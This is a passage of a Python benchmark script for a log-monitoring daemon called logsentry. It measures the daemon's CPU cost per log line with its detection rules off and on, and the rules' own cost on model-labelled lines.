    sys.path.insert(0, str(REPO / "bench"))
    from bench_pipeline import count_lines, start_daemon

    with open(corpus, "rb") as handle:
        lines = handle.read().splitlines(keepends=True)
    step = max(1, rate // 100)  # a slice every 10 ms
    with tempfile.TemporaryDirectory(prefix="logsentry-bench-") as folder:
        work = Path(folder)
        live, out = work / "live.log", work / "out.jsonl"
        live.touch()
        daemon = start_daemon(work, live, out, "model", detection, "beginning")
        try:
            with open(live, "ab", buffering=0) as writer:
                # Wait for the daemon to be up (a first line through it).
                writer.write(lines[0])
                while not out.exists() or out.stat().st_size == 0:
                    time.sleep(0.005)
                began = time.monotonic()
                first_cpu = first_lines = -1.0
                for index, begin in enumerate(range(1, len(lines), step)):
                    due = began + index * step / rate
                    delay = due - time.monotonic()
                    if delay > 0:
                        time.sleep(delay)
                    if first_cpu < 0 and time.monotonic() - began >= warmup:
                        first_cpu = cpu_seconds(daemon.pid)
                        first_threads = thread_cpu_seconds(daemon.pid)
                        first_lines = count_lines(out)
                    writer.write(b"".join(lines[begin:begin + step]))
            cpu = cpu_seconds(daemon.pid) - first_cpu
            threads = thread_cpu_seconds(daemon.pid)
            done = count_lines(out) - first_lines
        finally:
            daemon.terminate()
            daemon.wait(60)
    if first_cpu < 0:
        raise SystemExit("the corpus is shorter than the warm-up at this rate")
    per_thread = {name: round((seconds - first_threads.get(name, 0.0)) / done * 1e6, 2)
                  for name, seconds in threads.items()}
    return cpu / done * 1e6, per_thread


def bench_pipeline(corpus_name: str, runs: int, rate: int = 0,
                   warmup: float = 4.0) -> dict[str, Any]:
    corpus = Path(os.environ.get("BENCH_DATA", "/tmp/logsentry-bench-data")) / (
        corpus_name + ".log")
    off: list[float] = []
    on: list[float] = []
    # Per thread name, with detection on: what the detection thread itself takes,
    # which the whole process's difference shows only through the others' noise.
    threads_on: list[dict[str, float]] = []
    for _ in range(runs):
        if rate:
            off.append(daemon_cpu_at_rate(corpus, False, rate, warmup)[0])
            cpu, threads = daemon_cpu_at_rate(corpus, True, rate, warmup)
            on.append(cpu)
            threads_on.append(threads)
        else:
            off.append(daemon_cpu_per_line(corpus, False))
            on.append(daemon_cpu_per_line(corpus, True))
    off_us, on_us = sorted(off)[len(off) // 2], sorted(on)[len(on) // 2]
    return {
        "corpus": corpus_name,
        "rate_lines_s": rate or "flat out",
        "cpu_us_per_line_detection_off": [round(v, 1) for v in off],
        "cpu_us_per_line_detection_on": [round(v, 1) for v in on],
        "median_off_us": round(off_us, 1),
        "median_on_us": round(on_us, 1),
        "detection_adds": round(on_us / off_us - 1, 4),
        "pairs_adds": [round(b / a - 1, 4) for a, b in zip(off, on, strict=True)],
        **({"threads_us_per_line_detection_on": threads_on,
            "detection_thread_share_of_off": round(
                sorted(t.get("ls-detect", 0.0) for t in threads_on)[len(threads_on) // 2]
                / off_us, 4)} if rate else {}),
        **({"cpu_share_at_rate_off": round(off_us * rate / 1e6, 3),
            "cpu_share_at_rate_on": round(on_us * rate / 1e6, 3)} if rate else {}),
    }


def labelled_events(corpus_name: str, lines: int) -> list[Event]:
    """The first `lines` lines of a bench corpus, parsed and labelled by the shipped model."""
    from logsentry.analysis.tagger import load_analyzer

    corpus = Path(os.environ.get("BENCH_DATA", "/tmp/logsentry-bench-data")) / (
        corpus_name + ".log")
    texts: list[str] = []
    with open(corpus, encoding="utf-8", errors="replace") as handle:
        for text in handle:
            if len(texts) >= lines:
                break
            texts.append(text.rstrip("\n"))
    parser = EnvelopeParser(tz=UTC)
    events = [parser.parse(text, 1_750_000_000.0 + i * 0.001) for i, text in enumerate(texts)]
    analyzer = load_analyzer(threads=1)
    for begin in range(0, len(events), 64):
        chunk = events[begin:begin + 64]
        for event, analysis in zip(chunk, analyzer.analyze_batch([e.body for e in chunk]),
                                   strict=True):
            event.apply(analysis)
    return events


def bench_labelled(corpus_name: str, lines: int, runs: int) -> dict[str, Any]:
    """Detection's own CPU per line on model-labelled corpus lines (see the module doc)."""
    events = labelled_events(corpus_name, lines)
    gc.collect()
    gc.freeze()  # as in bench_cost: the corpus is not detection's garbage
    totals: list[float] = []
    matching: list[float] = []
    alerts = 0
    shapes_s = 0.0
    detector = Detector.from_config(detection_config(), None)
    try:
        for _ in range(runs):
            detector = Detector.from_config(detection_config(), None)
            shapes_s = compile_shapes(detector, events)
            gc.collect()
            started = time.process_time()
            alerts = 0
            for begin in range(0, len(events), BATCH):
                alerts += len(detector.process(events[begin:begin + BATCH]))
            totals.append(time.process_time() - started)
            # The selection functions alone (what every line costs, hit or not).
            index = detector._by_action
            started = time.process_time()
            for event in events:
                entry = index.get(event.action)
                if entry is not None:
                    entry[0](event)
            matching.append(time.process_time() - started)
    finally:
        gc.unfreeze()
    total, match = min(totals), min(matching)
    return {
        "corpus": corpus_name,
        "lines": len(events),
        "rules": len(detector.rules),
        "alerts": alerts,
        "detection_us": round(total / len(events) * 1e6, 2),
        "selection_us": round(match / len(events) * 1e6, 2),
        "rule_updates_us": round((total - match) / len(events) * 1e6, 2),
        "first_pass_with_shape_compilation_s": round(shapes_s, 3),
        "groups": detector.group_count,
    }


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--lines", type=int, default=100_000)
    parser.add_argument("--sources", type=int, default=1_000_000)
    parser.add_argument("--cap-mb", type=int, default=256)
    parser.add_argument("--model", action="store_true", help="include the model's cost")
    parser.add_argument("--json", type=Path)
    parser.add_argument("--skip-memory", action="store_true")
    parser.add_argument("--skip-cost", action="store_true")
    parser.add_argument("--save-sources", type=int, default=0)
    parser.add_argument("--save-repeats", type=int, default=1,
                        help="periodic saves of the same state, one after the other")
    parser.add_argument("--save-no-restore", action="store_true",
                        help="skip the shutdown save and the restore after them")
    parser.add_argument("--pipeline", metavar="CORPUS",
                        help="run the daemon over ../shared/bench's CORPUS, detection off and on")
    parser.add_argument("--pipeline-runs", type=int, default=3)
    parser.add_argument("--rate", type=int, default=0,
                        help="with --pipeline: append the corpus at this many lines/s "
                             "(0: the whole file at once, flat out)")
    parser.add_argument("--rate-warmup", type=float, default=4.0)
    parser.add_argument("--labelled", metavar="CORPUS",
                        help="detection alone on ../shared/bench's CORPUS labelled by the model")
    parser.add_argument("--labelled-lines", type=int, default=60_000)
    parser.add_argument("--labelled-runs", type=int, default=3)
    parser.add_argument("--rules", action="append", default=[],
                        help="rule file or folder (default: the shipped pack)")
    args = parser.parse_args()
    RULES.extend(args.rules)
    report: dict[str, Any] = {}
    if not args.skip_cost:
        report["cost"] = bench_cost(args.lines, args.model)
        print(json.dumps(report["cost"], indent=2), flush=True)
    if not args.skip_memory:
        report["memory"] = bench_memory(args.sources, args.cap_mb)
        print(json.dumps(report["memory"], indent=2), flush=True)
    if args.pipeline:
        report["pipeline"] = bench_pipeline(args.pipeline, args.pipeline_runs, args.rate,
                                            args.rate_warmup)
        print(json.dumps(report["pipeline"], indent=2), flush=True)
    if args.labelled:
        report["labelled"] = bench_labelled(args.labelled, args.labelled_lines,
                                            args.labelled_runs)
        print(json.dumps(report["labelled"], indent=2), flush=True)
    if args.save_sources:
        report["save"] = bench_save(args.save_sources, args.save_repeats,
                                    not args.save_no_restore)
        print(json.dumps(report["save"], indent=2))
    if args.json:
        args.json.write_text(json.dumps(report, indent=2))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
